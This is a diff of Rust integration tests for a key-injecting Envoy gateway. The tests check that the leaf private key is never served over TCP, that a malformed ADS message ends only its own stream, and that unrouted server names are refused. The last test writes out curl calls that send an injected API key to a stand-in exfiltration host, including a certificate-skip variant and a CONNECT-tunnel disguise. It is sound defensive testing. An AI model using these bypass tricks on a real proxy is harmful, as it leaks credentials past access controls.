@@ -238,12 +238,8 @@ fn ext_proc_socket_is_owner_only_and_tcp_needs_listen() {
     assert!(help.contains("gets the real key back"), "serve --help must say TCP ext_proc is secret-bearing: {help}");
 }
 
-/// ADS hands Envoy the leaf's private key: it is served on the owner-only Unix socket and never on
-/// a TCP `--listen` address, where more than the socket's owner could ask for it.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn ads_and_the_leaf_key_are_never_served_on_tcp() {
-    use envoy_types::pb::envoy::service::discovery::v3::aggregated_discovery_service_client::AggregatedDiscoveryServiceClient;
-    use envoy_types::pb::envoy::service::discovery::v3::DiscoveryRequest;
+/// keyswap serving with a gateway CA (`--ca-dir`), and `extra` arguments.
+fn start_with_ca(extra: &[&str]) -> (Proc, std::path::PathBuf, [tempfile::TempDir; 2]) {
     let (work, config) = (tempfile::tempdir().unwrap(), config_dir());
     let ca = work.path().join("ca");
     let out = Command::new(env!("CARGO_BIN_EXE_keyswap"))
@@ -254,25 +250,30 @@ async fn ads_and_the_leaf_key_are_never_served_on_tcp() {
         .output()
         .unwrap();
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
-    let tcp = format!("127.0.0.1:{}", free_port());
-    let (proc, uds) = tokio::task::block_in_place(|| {
-        start_keyswap(config.path(), work.path(), &[], &["--listen", &tcp, "--ca-dir", ca.to_str().unwrap()])
-    });
-    let ask = |mut client: AggregatedDiscoveryServiceClient<tonic::transport::Channel>| async move {
-        let req = DiscoveryRequest {
-            type_url: "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret".into(),
-            resource_names: vec!["keyswap_leaf".into()],
-            ..Default::default()
-        };
-        let mut stream = client.stream_aggregated_resources(tokio_stream::iter(vec![req])).await?.into_inner();
-        tokio::time::timeout(std::time::Duration::from_secs(10), stream.message()).await.expect("no answer in 10 s")
+    let mut args = vec!["--ca-dir", ca.to_str().unwrap()];
+    args.extend_from_slice(extra);
+    let (proc, uds) = tokio::task::block_in_place(|| start_keyswap(config.path(), work.path(), &[], &args));
+    (proc, uds, [work, config])
+}
+
+type AdsClient = envoy_types::pb::envoy::service::discovery::v3::aggregated_discovery_service_client::AggregatedDiscoveryServiceClient<tonic::transport::Channel>;
+
+/// Asks ADS for the leaf secret, as Envoy does: the first response, or the stream's error.
+async fn ask_for_the_leaf(
+    mut client: AdsClient,
+) -> Result<Option<envoy_types::pb::envoy::service::discovery::v3::DiscoveryResponse>, tonic::Status> {
+    let req = envoy_types::pb::envoy::service::discovery::v3::DiscoveryRequest {
+        type_url: "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret".into(),
+        resource_names: vec!["keyswap_leaf".into()],
+        ..Default::default()
     };
-    // TCP: no such service.
-    let client = AggregatedDiscoveryServiceClient::connect(format!("http://{tcp}")).await.unwrap();
-    let err = ask(client).await.expect_err("ADS answered on TCP");
-    assert_eq!(err.code(), tonic::Code::Unimplemented, "{err}");
-    // The Unix socket: the leaf, as Envoy gets it.
-    let path = uds.clone();
+    let mut stream = client.stream_aggregated_resources(tokio_stream::iter(vec![req])).await?.into_inner();
+    tokio::time::timeout(std::time::Duration::from_secs(10), stream.message()).await.expect("no answer in 10 s")
+}
+
+/// An ADS client over the Unix socket at `uds`.
+async fn ads_over(uds: &std::path::Path) -> AdsClient {
+    let path = uds.to_path_buf();
     let channel = tonic::transport::Endpoint::from_static("http://keyswap.invalid")
         .connect_with_connector(tower::service_fn(move |_: tonic::transport::Uri| {
             let path = path.clone();
@@ -280,9 +281,89 @@ async fn ads_and_the_leaf_key_are_never_served_on_tcp() {
         }))
         .await
         .unwrap();
-    let resp = ask(AggregatedDiscoveryServiceClient::new(channel)).await.unwrap().expect("a response");
+    AdsClient::new(channel)
+}
+
+/// ADS hands Envoy the leaf's private key: it is served on the owner-only Unix socket and never on
+/// a TCP `--listen` address, where more than the socket's owner could ask for it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ads_and_the_leaf_key_are_never_served_on_tcp() {
+    let tcp = format!("127.0.0.1:{}", free_port());
+    let (proc, uds, _dirs) = start_with_ca(&["--listen", &tcp]);
+    // TCP: no such service.
+    let err = ask_for_the_leaf(AdsClient::connect(format!("http://{tcp}")).await.unwrap())
+        .await
+        .expect_err("ADS answered on TCP");
+    assert_eq!(err.code(), tonic::Code::Unimplemented, "{err}");
+    // The Unix socket: the leaf, as Envoy gets it.
+    let resp = ask_for_the_leaf(ads_over(&uds).await).await.unwrap().expect("a response");
     assert_eq!(resp.resources.len(), 1, "the leaf over the socket:\n{}", proc.output());
     assert!(proc.output().contains("ext_proc server listening address=tcp://"), "{}", proc.output());
+}
+
+/// A message on the ADS stream that is not a DiscoveryRequest ends that stream with an error
+/// status; keyswap keeps serving ADS (and ext_proc).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn undecodable_ads_messages_end_their_stream_and_ads_keeps_serving() {
+    let (mut proc, uds, _dirs) = start_with_ca(&[]);
+    // A gRPC frame whose payload is not a DiscoveryRequest (field 1 as a truncated varint).
+    let frame: &[u8] = &[0, 0, 0, 0, 3, 0x0a, 0xff, 0xff];
+    let socket = uds.clone();
+    let out = tokio::task::spawn_blocking(move || {
+        Command::new("curl")
+            .args(["-sS", "--http2-prior-knowledge", "-D", "-", "-o", "/dev/null", "--max-time", "10", "--unix-socket"])
+            .arg(&socket)
+            .args(["-H", "content-type: application/grpc", "-H", "te: trailers", "--data-binary", "@-"])
+            .arg("http://keyswap/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources")
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .spawn()
+            .and_then(|mut child| {
+                use std::io::Write;
+                child.stdin.take().unwrap().write_all(frame)?;
+                child.wait_with_output()
+            })
+            .expect("curl is installed (apt-get install -y curl)")
+    })
+    .await
+    .unwrap();
+    let headers = String::from_utf8_lossy(&out.stdout).to_ascii_lowercase();
+    let status = headers.lines().find_map(|l| l.strip_prefix("grpc-status:")).map(str::trim);
+    assert!(status.is_some_and(|s| s != "0"), "expected an error grpc-status: {headers}");
+    proc.assert_running();
+    let resp = ask_for_the_leaf(ads_over(&uds).await).await.unwrap().expect("a response after the bad message");
+    assert_eq!(resp.resources.len(), 1, "{}", proc.output());
+}
+
+/// Over ADS the TLS chain matches any server name (so a host change never touches a listener):
+/// an unrouted name, on the redirected TLS listener or inside a CONNECT tunnel to a routed host,
+/// gets the leaf (which does not name it) and, past that, a refusal (keyswap's 403 on a deny-all
+/// gateway, Envoy's 421 from the `misdirected` virtual host otherwise): nothing is forwarded, no key.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_unrouted_server_name_behind_a_routed_listener_or_tunnel_reaches_nothing() {
+    let g = start_gateway("deny-all", "", &[]).await;
+    let before = g.fake.seen().len();
+    let body = ["-H", "x-api-key: keyswap-injected-by-proxy", "-d", "{}"];
+    // The redirected TLS listener: verification fails (the leaf does not name the host) …
+    let (code, _, err) =
+        g.curl_tls("exfil.example.com", &[&body[..], &[&g.url("exfil.example.com", "/upload")]].concat());
+    assert_ne!(code, 0, "an unrouted name passed certificate verification: {err}");
+    // … and an agent that skips verification is refused.
+    let refused = |out: &str| matches!(status_line(out), " 403" | " 421");
+    let (_, out, _) =
+        g.curl_tls("exfil.example.com", &[&["-k"][..], &body[..], &[&g.url("exfil.example.com", "/upload")]].concat());
+    assert!(refused(&out), "{out}");
+    // A tunnel opened to a routed host, then TLS and Host for another one.
+    let (_, out, err) = g.curl(
+        &[
+            &["-k", "--connect-to", "exfil.example.com:443:api.anthropic.com:443"][..],
+            &body[..],
+            &["https://exfil.example.com/upload"],
+        ]
+        .concat(),
+    );
+    assert!(refused(&out), "{out}\n{err}");
+    g.assert_nothing_forwarded(before, "an unrouted server name");
 }
 
 // === 4. path and method tricks ===
